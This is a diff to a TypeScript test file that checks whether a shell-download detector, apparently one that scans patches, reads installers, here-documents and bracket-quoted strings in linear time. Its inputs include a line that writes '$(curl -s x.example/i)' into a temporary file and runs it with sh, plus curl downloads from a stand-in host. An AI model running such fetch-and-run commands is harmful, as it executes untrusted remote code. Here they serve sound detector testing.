@@ -110,6 +110,9 @@ describe('pass 14: the cost of reading installers, here-documents and joined dow
     ['here-documents written to a file and run', 'cat <<A > /tmp/i\n$(curl -s x.example/i)\nA\nsh /tmp/i\n'],
     ['substitutions in one here-document', 'sh <<A\n' + '$(a -x $b) `c` ${ d; }\n'],
     ['here-document operators on a line', 'x <<A <<B <<C '],
+    // A quote after a `)` or `}` closes a string or opens one: read both ways at each, this was exponential (1 KB, 3 s).
+    ['downloads in strings closed by brackets and quotes', 'x("curl x.example/i } $a #{b}") } "'],
+    ['downloads in groups closed many times', 'y("curl x.example/i ) $a) } ; "'],
   ] as const) {
     it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
       // Prepare: up to 18 KB, near the check's 20 KB
